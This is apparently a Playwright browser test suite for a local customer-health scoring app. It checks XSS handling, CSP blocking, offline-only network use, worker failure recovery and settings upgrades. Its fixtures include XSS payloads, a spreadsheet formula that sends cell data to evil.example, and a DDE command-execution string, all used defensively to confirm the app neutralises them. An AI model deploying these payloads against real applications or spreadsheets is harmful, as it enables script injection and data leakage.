// Reliability and security in the browser: hostile data renders as text, the CSP blocks what
// it must, the full app makes no request off this machine, a failing worker is reported and
// the page keeps working, oversized input is refused early, and saved settings survive reloads
// and upgrades.
import { readFile } from 'node:fs/promises';
import { test, expect, openApp, upload, cspViolations } from './fixtures.mjs';

const PAYLOADS = [
  '<img src=x id=xss1 onerror="window.__xss=1;alert(1)">',
  '<script id=xss2>window.__xss=2;alert(2)</script>',
  '"><svg id=xss3 onload="window.__xss=3">',
  '<iframe id=xss4 srcdoc="<script>parent.__xss=4</script>">',
  '=HYPERLINK("http://evil.example/?d="&A1;"click")',
  'Acme;=cmd|\' /C calc\'!A0;',
];

function csvField(s) {
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** An accounts + surveys + usage set whose names, regions, owners, plans, comments and even
 *  header names carry script payloads. */
function hostileFiles() {
  const accounts = ['account_id,account_name,arr,seats,region,plan,csm_owner'];
  const surveys = ['account_id,response_date,survey_type,score,comment'];
  const usage = ['account_id,user_id,event_date,feature,event_count'];
  PAYLOADS.forEach((p, i) => {
    const id = `H-${i + 1}`;
    accounts.push([id, p, 1000 * (i + 1), 5, p, p, p].map((v) => csvField(String(v))).join(','));
    surveys.push([id, '2026-01-10', 'nps', i % 2 ? 9 : 3, p].map((v) => csvField(String(v))).join(','));
    for (let d = 1; d <= 3; d++) usage.push([id, `${p}-user`, `2026-01-0${d}`, p, d].map((v) => csvField(String(v))).join(','));
  });
  // A file whose header cells are payloads too (not recognised: shown in the mapping review).
  const odd = `${csvField(PAYLOADS[0])},${csvField(PAYLOADS[1])}\n1,2\n`;
  return [
    { name: 'accounts.csv', mimeType: 'text/csv', buffer: Buffer.from(accounts.join('\n') + '\n') },
    { name: 'surveys.csv', mimeType: 'text/csv', buffer: Buffer.from(surveys.join('\n') + '\n') },
    { name: 'usage.csv', mimeType: 'text/csv', buffer: Buffer.from(usage.join('\n') + '\n') },
    { name: '<img src=x onerror=alert(9)>.csv', mimeType: 'text/csv', buffer: Buffer.from(odd) },
  ];
}

async function assertNoInjection(page) {
  expect(await page.evaluate(() => window.__xss)).toBeUndefined();
  for (const id of ['xss1', 'xss2', 'xss3', 'xss4']) {
    expect(await page.locator(`#${id}`).count(), `element #${id} was created`).toBe(0);
  }
  // No element from user data: no img with src=x, no iframe, no inline script added.
  expect(await page.locator('img[src="x"], iframe, svg#xss3').count()).toBe(0);
  expect(await page.evaluate(() => [...document.scripts].filter((s) => !s.src && s.textContent.includes('__xss')).length)).toBe(0);
}

test('script payloads in names, fields, comments, headers and file names render as text', async ({ page }, testInfo) => {
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  await openApp(page);
  await page.locator('#file-input').setInputFiles(hostileFiles());
  await expect(page.locator('.file-card[data-file="accounts.csv"] .stat.ok b')).toHaveText('6');
  // The mapping review shows the hostile header and file name as text.
  const odd = page.locator('.file-card').filter({ hasText: '<img src=x onerror=alert(9)>.csv' });
  await expect(odd).toBeVisible();
  await expect(odd).toContainText(PAYLOADS[0]);
  await assertNoInjection(page);

  await page.locator('#tab-accounts').click();
  await expect(page.locator('#accounts-grid')).toBeVisible();
  for (const [i, p] of PAYLOADS.entries()) {
    await page.locator('#filter-text').fill(`H-${i + 1}`);
    await expect(page.locator(`.vt-row[data-account="H-${i + 1}"] .acct-name`)).toHaveText(p);
  }
  await page.locator('#filter-text').fill('');
  // Every view and the detail panel of each account.
  for (const view of ['quadrants', 'outreach', 'segments', 'playbooks', 'accounts']) {
    await page.locator(`#tab-${view}`).click();
    await expect(page.locator(`#view-${view}`)).toBeVisible();
    await assertNoInjection(page);
  }
  for (let i = 1; i <= PAYLOADS.length; i++) {
    await page.locator('#filter-text').fill(`H-${i}`);
    await page.locator(`.vt-row[data-account="H-${i}"]`).click();
    await expect(page.locator('#detail')).toBeVisible();
    await expect(page.locator('#detail')).toContainText(PAYLOADS[i - 1]);
    await assertNoInjection(page);
    await page.keyboard.press('Escape');
  }
  // The printable report and the CSV export: text, and formula-safe.
  await page.locator('#btn-export').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#export-csv').click()]);
  const path = testInfo.outputPath('hostile.csv');
  await download.saveAs(path);
  const csv = await readFile(path, 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1;""click"")"`);
  expect(csv).toContain("Acme;'=cmd|' /C calc'!A0;");
  for (const line of csv.trim().split('\r\n')) {
    expect(line.startsWith('=') || line.includes(',=') || line.includes(';=')).toBe(false);
  }
  await assertNoInjection(page);
  expect(dialogs).toEqual([]);
});

test('the CSP is in the page and blocks injected external requests and inline scripts', async ({ page, guard }) => {
  await openApp(page);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toMatch(/default-src 'self'/);
  expect(csp).not.toContain('unsafe-inline');
  expect(csp).not.toContain("'unsafe-eval'");
  const failed = [];
  page.on('requestfailed', (r) => failed.push(`${r.url()} ${r.failure()?.errorText}`));
  // Inject, as an attacker who got markup into the page would: an external image, an
  // external script, an inline script, string-eval through a timer, and a beacon.
  const outcome = await page.evaluate(async () => {
    const img = document.createElement('img');
    img.src = 'https://example.com/pixel.gif';
    document.body.appendChild(img);
    const s = document.createElement('script');
    s.src = 'https://example.com/evil.js';
    document.body.appendChild(s);
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(inline);
    // A string timer is compiled by the page itself (not by the test's evaluate): CSP applies.
    try { setTimeout('window.__evalRan = true', 0); } catch { /* blocked */ }
    let beacon = 'none';
    try { beacon = String(navigator.sendBeacon('https://example.com/beacon', 'x')); } catch { beacon = 'threw'; }
    await new Promise((r) => setTimeout(r, 500));
    return { inline: window.__inlineRan === true, evalRan: window.__evalRan === true, beacon };
  });
  expect(outcome.inline, 'an inline script ran').toBe(false);
  expect(outcome.evalRan, 'string eval ran').toBe(false);
  // sendBeacon may answer "queued" (true); the CSP still stops it before the network.
  await expect.poll(async () => (await cspViolations(page)).join('\n')).toContain('example.com/pixel.gif');
  const violations = (await cspViolations(page)).join('\n');
  expect(violations).toContain('example.com/evil.js');
  expect(violations).toMatch(/script-src(-elem)? inline/);
  expect(violations).toMatch(/eval/);
  expect(violations).toContain('example.com/beacon');
  // The route guard never saw them: the browser refused them before the network. Chrome still
  // announces a CSP-blocked subresource as a request that failed; those are accounted for here
  // (each must have failed) and removed from the guard's list, which must otherwise be local.
  expect(guard.blocked).toEqual([]);
  const external = guard.requests.filter((u) => u.includes('example.com'));
  for (const url of external) {
    expect(failed.some((f) => f.startsWith(url)), `${url} was not blocked`).toBe(true);
  }
  for (const url of external) guard.requests.splice(guard.requests.indexOf(url), 1);
  // The deliberate violations are this test's own; the fixture checks there are no others.
  await page.evaluate(() => { window.__cspViolations = window.__cspViolations.filter((v) => !/example\.com|inline|eval/.test(v)); });
});

test('driving the whole app makes no request to a non-loopback origin', async ({ page, guard }, testInfo) => {
  await openApp(page);
  await page.locator('#btn-demo').click();
  await expect(page.locator('#accounts-grid')).toBeVisible();
  for (const view of ['quadrants', 'outreach', 'segments', 'playbooks', 'model', 'data', 'accounts']) {
    await page.locator(`#tab-${view}`).click();
    await expect(page.locator(`#view-${view}`)).toBeVisible();
  }
  await page.locator('.vt-row').first().click();
  await expect(page.locator('#detail')).toBeVisible();
  await page.keyboard.press('Escape');
  await page.locator('#tab-model').click();
  await page.locator('#w-group-human_centred').fill('0.7');
  await page.locator('#tab-accounts').click();
  await page.locator('#btn-export').click();
  const [csv] = await Promise.all([page.waitForEvent('download'), page.locator('#export-csv').click()]);
  await csv.saveAs(testInfo.outputPath('all.csv'));
  await page.locator('#btn-export').click();
  const [json] = await Promise.all([page.waitForEvent('download'), page.locator('#export-json').click()]);
  await json.saveAs(testInfo.outputPath('all.json'));
  await page.reload();
  await expect(page.locator('body.ready')).toBeAttached();
  const hosts = [...new Set(guard.requests.map((u) => { try { return new URL(u).host; } catch { return u.split(':')[0]; } }))];
  expect(guard.blocked).toEqual([]);
  for (const host of hosts) expect(host === '' || /^(127\.\d+\.\d+\.\d+|localhost|\[::1\])(:\d+)?$/.test(host), host).toBe(true);
  expect(guard.requests.length).toBeGreaterThan(5);
});

test('a worker that fails while reading is reported, and the page keeps working', async ({ page }) => {
  await openApp(page);
  // Make the worker fail as soon as it starts reading (an uncaught error inside the worker,
  // as a real engine failure raises), deterministically, whatever the machine's speed.
  const worker = page.workers()[0] ?? await page.waitForEvent('worker');
  await worker.evaluate(() => {
    self.addEventListener('message', (e) => {
      if (e.data?.type === 'ingest') setTimeout(() => { throw new Error('injected worker failure'); }, 0);
    });
  });
  const rows = ['account_id,user_id,event_date,feature,event_count'];
  for (let i = 0; i < 20_000; i++) rows.push(`A-${i % 50},u${i % 7},2026-01-${String(1 + (i % 28)).padStart(2, '0')},f${i % 5},${1 + (i % 3)}`);
  const file = { name: 'usage.csv', mimeType: 'text/csv', buffer: Buffer.from(rows.join('\n') + '\n') };
  await page.locator('#file-input').setInputFiles(file);
  const banner = page.locator('#banner-region');
  await expect(banner).toContainText('The engine stopped unexpectedly');
  await expect(banner).toContainText('injected worker failure');
  // Not stuck: the progress bar is gone and the file is listed, not lost.
  await expect(page.locator('#progress')).toBeHidden();
  await expect(page.locator('.file-card[data-file="usage.csv"]')).toBeVisible();
  // The banner offers to try again; the restarted worker reads the file.
  await banner.getByRole('button', { name: 'Try again' }).click();
  await expect(page.locator('#accounts-grid')).toBeVisible();
  await expect(page.locator('#kpi-accounts .kpi-value')).toHaveText('50');
  // And everything else still works.
  await page.locator('#tab-outreach').click();
  await expect(page.locator('#view-outreach')).toBeVisible();
});

test('a stored mapping the engine cannot read is dropped on load, and the file is read', async ({ page }) => {
  // A mapping saved by an older or buggy version: unknown table kind, columns not strings.
  await page.addInitScript(() => {
    if (sessionStorage.getItem('seeded')) return;
    sessionStorage.setItem('seeded', '1');
    localStorage.setItem('customer-health.settings', JSON.stringify({
      version: 1,
      model: null,
      mappings: {
        'accounts.csv': { kind: 'customers', columns: { Kundennummer: 42 } },
        'kunden.csv': { kind: 'accounts', columns: { Kundennummer: 'account_id' } },
      },
    }));
  });
  await openApp(page);
  await upload(page, [{ name: 'accounts.csv', mimeType: 'text/csv', buffer: Buffer.from('account_id,name,arr\nA-1,Alpha,100\nA-2,Beta,200\n') }]);
  await page.locator('#tab-data').click();
  await expect(page.locator('.file-card[data-file="accounts.csv"] .stat.ok b')).toHaveText('2');
  const stored = await page.evaluate(() => JSON.parse(localStorage.getItem('customer-health.settings')));
  expect(stored.mappings['kunden.csv'].columns.Kundennummer).toBe('account_id');
});

test('input too large for the tab is refused before reading, with a clear message', async ({ page }) => {
  // The limit is lowered for the test with ?max-input-mb (it can only be lowered).
  await openApp(page, '/?max-input-mb=1');
  const big = Buffer.alloc(1.5 * 1024 * 1024, 'account_id,name\nA-1,x\n');
  await page.locator('#file-input').setInputFiles({ name: 'usage.csv', mimeType: 'text/csv', buffer: big });
  await expect(page.locator('#banner-region')).toContainText('These files are too large for this tab');
  await expect(page.locator('#banner-region')).toContainText('Nothing new was read');
  await expect(page.locator('.file-card')).toHaveCount(0);
  await expect(page.locator('#progress')).toBeHidden();
  // JSON is read whole: its own, lower limit in the same tab.
  const json = Buffer.from(JSON.stringify(Array.from({ length: 30_000 }, (_, i) => ({ account_id: `A-${i}`, name: 'x' }))));
  expect(json.length).toBeGreaterThan(1024 * 1024);
  await page.locator('#file-input').setInputFiles({ name: 'accounts.json', mimeType: 'application/json', buffer: json });
  await expect(page.locator('#banner-region')).toContainText('too large to read as JSON');
  // A file within the limit is still read.
  await page.locator('#file-input').setInputFiles({ name: 'accounts.csv', mimeType: 'text/csv', buffer: Buffer.from('account_id,name,arr\nA-1,Alpha,100\n') });
  await expect(page.locator('#accounts-grid')).toBeVisible();
  await page.locator('#tab-data').click();
  await expect(page.locator('.file-card[data-file="accounts.csv"] .stat.ok b')).toHaveText('1');
  // The limit without the test parameter follows the device (navigator.deviceMemory).
  const limit = await page.evaluate(async () => (await import('./js/limits.js')).inputLimits());
  expect(limit.total).toBe(1024 * 1024);
});

test('the saved model and column mapping survive reload and an upgrade from unversioned settings', async ({ page }) => {
  // Settings as an early version stored them: the model alone, without schema_version and
  // without sections added later.
  await openApp(page);
  const oldModel = await page.evaluate(async () => {
    const w = await import('./pkg/customer_health.js');
    await w.default();
    const m = w.default_model();
    delete m.schema_version;
    delete m.flags.competitor_mention;
    delete m.windows.backtest_days;
    m.name = 'Our old model';
    m.groups[0].measures.find((x) => x.measure === 'csat').weight = 7;
    return m;
  });
  await page.evaluate((model) => {
    localStorage.setItem('customer-health.settings', JSON.stringify(model));
  }, oldModel);
  await page.reload();
  await expect(page.locator('body.ready')).toBeAttached();
  await expect(page.locator('#model-badge')).toContainText('Our old model');
  await page.locator('#tab-model').click();
  await expect(page.locator('#w-csat')).toHaveValue('7');
  await expect(page.locator('#model-ok')).toBeVisible();

  // A column mapping made now is remembered across a reload, next to the upgraded model. The
  // file is recognised by its content and scored at once (the page moves to Accounts); the
  // region column it cannot place is corrected in the Data view.
  const csv = 'Kundennummer,account_name,arr,Gebiet\nK-1,Alpha,1000,Nord\nK-2,Beta,2000,Süd\n';
  const file = { name: 'kunden.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) };
  await page.locator('#tab-data').click();
  await page.locator('#file-input').setInputFiles(file);
  await expect(page.locator('#accounts-grid')).toBeVisible();
  await page.locator('#tab-data').click();
  const card = page.locator('.file-card[data-file="kunden.csv"]');
  await card.locator('details.mapping > summary').click();
  await expect(card.locator('select[data-column="Gebiet"]')).toHaveValue('ignore');
  await card.locator('select[data-column="Gebiet"]').selectOption('region');
  await expect(card.locator('select[data-column="Gebiet"]')).toHaveValue('region');
  await expect(card.locator('.stat.ok b')).toHaveText('2');
  await page.reload();
  await expect(page.locator('body.ready')).toBeAttached();
  await expect(page.locator('#model-badge')).toContainText('Our old model');
  await page.locator('#file-input').setInputFiles(file);
  await expect(page.locator('#accounts-grid')).toBeVisible();
  await page.locator('#tab-data').click();
  await expect(card.locator('select[data-column="Gebiet"]')).toHaveValue('region');
  await expect(card.locator('.stat.ok b')).toHaveText('2');
  const stored = await page.evaluate(() => JSON.parse(localStorage.getItem('customer-health.settings')));
  expect(stored.version).toBe(1);
  expect(stored.mappings['kunden.csv'].columns.Gebiet).toBe('region');
});

test('settings written by a newer version are kept in a backup, and corrupted ones do not break the page', async ({ page }) => {
  await page.addInitScript(() => {
    if (sessionStorage.getItem('seeded')) return;
    sessionStorage.setItem('seeded', '1');
    localStorage.setItem('customer-health.settings', JSON.stringify({ version: 99, model: { not: 'a model' }, mappings: { 'a.csv': { kind: 'usage', columns: {} } }, future: true }));
  });
  await openApp(page);
  const backup = await page.evaluate(() => localStorage.getItem('customer-health.settings.backup-v99'));
  expect(JSON.parse(backup).future).toBe(true);
  await page.evaluate(() => localStorage.setItem('customer-health.settings', '{not json'));
  await page.reload();
  await expect(page.locator('body.ready')).toBeAttached();
  await page.locator('#btn-demo').click();
  await expect(page.locator('#accounts-grid')).toBeVisible();
});
